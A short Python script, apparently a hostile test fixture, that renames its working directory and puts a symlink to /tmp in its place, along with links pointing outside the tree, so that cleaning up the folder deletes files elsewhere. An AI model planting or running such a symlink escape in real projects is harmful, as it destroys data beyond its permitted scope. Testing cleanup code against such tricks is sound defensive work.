"""Replaces its folder by a link out of it, so that clearing it clears another."""

import contextlib
import os

here = os.getcwd()
with contextlib.suppress(OSError):
    os.symlink("/tmp", "out")
    os.symlink("../../../..", "above")
    os.rename(here, f"{here}-polymath-escape")
    os.symlink("/tmp", here)
